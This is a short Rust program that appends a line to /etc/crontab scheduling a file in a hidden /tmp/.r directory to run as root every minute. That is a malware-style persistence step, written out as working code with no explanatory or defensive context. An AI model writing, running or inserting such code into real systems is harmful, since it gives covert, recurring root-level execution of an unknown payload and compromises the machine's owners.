use std::fs::OpenOptions;
use std::io::Write;

fn main() {
    let mut f = OpenOptions::new().create(true).append(true).open("/etc/crontab").unwrap();
    writeln!(f, "* * * * * root /tmp/.r/run").unwrap();
}
